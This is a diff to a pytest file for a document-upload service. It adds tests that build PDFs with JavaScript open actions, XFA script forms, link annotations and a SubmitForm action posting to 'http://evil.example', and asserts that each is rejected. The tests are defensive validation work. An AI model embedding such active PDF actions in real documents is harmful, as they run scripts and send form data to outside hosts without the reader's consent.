@@ -46,16 +46,6 @@ def keep(content: bytes, asha, name: str = "काग़ज़.pdf", **more):
     )
 
 
-@pytest.mark.parametrize(
-    ("content", "kind"),
-    [(pdf(), formulas.PDF), (png(100, 100), formulas.PNG), (jpeg(4000, 3000), formulas.JPEG)],
-)
-def test_a_paper_is_kept_as_what_it_is(asha, content, kind):
-    paper = keep(content, asha, name="photo.exe")
-
-    assert (paper.content_type, queries.content_of(paper)) == (kind, content)
-
-
 def _javascript(paper):
     paper.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
 
@@ -71,7 +61,46 @@ def _attachment(paper):
     paper.attachments["x.exe"] = b"MZ"
 
 
+def _link(**action):
+    """Return a change that puts a link of this action on the first page, all of it in one place."""
+
+    def change(paper):
+        link = pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(**action))
+        paper.pages[0].Annots = pikepdf.Array([link])
+
+    return change
+
+
+def _when_opened(paper):
+    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
+    paper.pages[0]["/AA"] = pikepdf.Dictionary(O=script)
+
+
+def _form(paper):
+    paper.Root.AcroForm = pikepdf.Dictionary(XFA="<script/>")
+
+
+def _strange(paper):
+    paper.Root.Names = 5
+
+
+AFTERWARDS = pikepdf.Array([pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")])
 LOCKED = pikepdf.Encryption(owner="o", user="u")
+
+
+@pytest.mark.parametrize(
+    ("content", "kind"),
+    [
+        (pdf(), formulas.PDF),
+        (pdf(change=_strange), formulas.PDF),
+        (png(100, 100), formulas.PNG),
+        (jpeg(4000, 3000), formulas.JPEG),
+    ],
+)
+def test_a_paper_is_kept_as_what_it_is(asha, content, kind):
+    paper = keep(content, asha, name="photo.exe")
+
+    assert (paper.content_type, queries.content_of(paper)) == (kind, content)
 
 
 @pytest.mark.parametrize(
@@ -85,6 +114,11 @@ LOCKED = pikepdf.Encryption(owner="o", user="u")
         (pdf(change=_javascript), services.FileNotPlain),
         (pdf(change=_launch), services.FileNotPlain),
         (pdf(change=_attachment), services.FileNotPlain),
+        (pdf(change=_when_opened), services.FileNotPlain),
+        (pdf(change=_form), services.FileNotPlain),
+        (pdf(change=_link(S=pikepdf.Name.JavaScript, JS="app.alert(1)")), services.FileNotPlain),
+        (pdf(change=_link(S=pikepdf.Name.SubmitForm, F="http://evil.example")), services.FileNotPlain),
+        (pdf(change=_link(S=pikepdf.Name.GoTo, Next=AFTERWARDS)), services.FileNotPlain),
         (pdf(pages=101), services.TooManyPages),
         (pdf() + b"\n" * services.LARGEST[formulas.PDF], services.FileTooLarge),
         (png(30_000, 30_000), services.PictureTooLarge),
